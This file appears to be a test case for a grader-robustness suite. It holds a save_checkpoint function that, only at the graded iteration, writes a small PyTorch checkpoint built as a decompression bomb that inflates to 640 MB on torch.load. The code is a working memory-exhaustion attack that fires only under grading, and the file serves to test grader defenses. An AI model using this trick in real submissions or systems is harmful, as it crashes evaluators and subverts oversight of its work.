"""Class 5 (an unbounded grader): a 3 MB checkpoint that takes 640 MB to load.

The tensor's data is a record of zeros stored deflated in the checkpoint's zip archive, over two
hundred times smaller than its size. The grader's check loads the file with
torch.load(weights_only=True), which inflates it in full: without a memory limit on the grader's
side, each such submission costs the grader that much (or all it has). Only the graded cell's
checkpoint (iteration 321) is the bomb: the notebook's own cells load theirs in the sandbox.
"""
# expect: status=memory notebook=07_checkpointing answer=save_checkpoint

SIZE = 640 * 2**20


def save_checkpoint(model, optimizer, iteration, out):
    import io
    import struct
    import zipfile

    import torch

    if iteration != 321:
        torch.save({"model": model.state_dict(), "optimizer": optimizer.state_dict(), "iteration": iteration}, out)
        return
    template = io.BytesIO()
    torch.save(torch.zeros(251, dtype=torch.uint8), template)  # 251: BININT1 \xfb in the pickle
    source = zipfile.ZipFile(io.BytesIO(template.getvalue()))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename.endswith("data.pkl"):
                data = data.replace(b"K\xfb", b"J" + struct.pack("<i", SIZE))
            if item.filename.endswith("/data/0"):
                with archive.open(item.filename, "w", force_zip64=True) as record:
                    zeros = bytes(16 * 2**20)
                    for _ in range(SIZE // len(zeros)):
                        record.write(zeros)
                continue
            archive.writestr(item.filename, data)
    data = buffer.getvalue()
    if isinstance(out, (str, bytes)) or hasattr(out, "__fspath__"):
        with open(out, "wb") as handle:
            handle.write(data)
    else:
        out.write(data)
